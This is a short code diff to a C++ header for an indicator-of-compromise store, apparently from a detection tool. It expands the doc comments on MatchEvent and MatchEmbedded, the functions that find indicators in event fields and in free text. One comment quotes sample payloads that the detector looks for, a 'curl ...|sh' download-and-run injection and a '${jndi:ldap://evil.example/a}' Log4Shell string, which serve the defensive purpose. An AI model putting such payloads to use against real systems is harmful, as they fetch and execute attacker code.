@@ -82,15 +82,17 @@ class IocStore {
   const Ioc* FindHash(std::string_view hex, int64_t now_millis) const;
   const Ioc* FindUserAgent(std::string_view agent, int64_t now_millis) const;
 
-  // Looks up source.ip, destination.ip, destination.domain, the referrer's host, the URL and
-  // the user agent of the event. Replaces *out.
+  // Looks up source.ip, destination.ip, destination.domain, the referrer's host (as a name, and
+  // as an address in any form ParseIp or ParseUrlHostIpv4 reads), the URL and the user agent of
+  // the event. Replaces *out.
   void MatchEvent(const Event& ev, int64_t now_millis, std::vector<IocMatch>* out) const;
   // Looks for indicators written inside free text, as an exploit or a log message carries them
   // ("...;curl http://198.51.100.9/x.sh|sh", "${jndi:ldap://evil.example/a}", "query:
-  // evil.example A"): the URLs (scheme://...) and their hosts, IPv4 and IPv6 addresses and
-  // domain names in `message`, and, with `payloads`, in the request target (decoded), the user
-  // agent and the referrer. Appends to *out what it does not hold yet, with the field the text came
-  // from. At most kMaxEmbeddedText bytes of each text are read.
+  // evil.example A"): the URLs (scheme://...) and their hosts (an address host in any form
+  // ParseUrlHostIpv4 reads), IPv4 and IPv6 addresses and domain names in `message`, and, with
+  // `payloads`, in the request target (decoded), the user agent and the referrer. Appends to
+  // *out what it does not hold yet, with the field the text came from. At most
+  // kMaxEmbeddedText bytes of each text are read.
   void MatchEmbedded(const Event& ev, bool payloads, int64_t now_millis,
                      std::vector<IocMatch>* out) const;
   static constexpr size_t kMaxEmbeddedText = 16384;
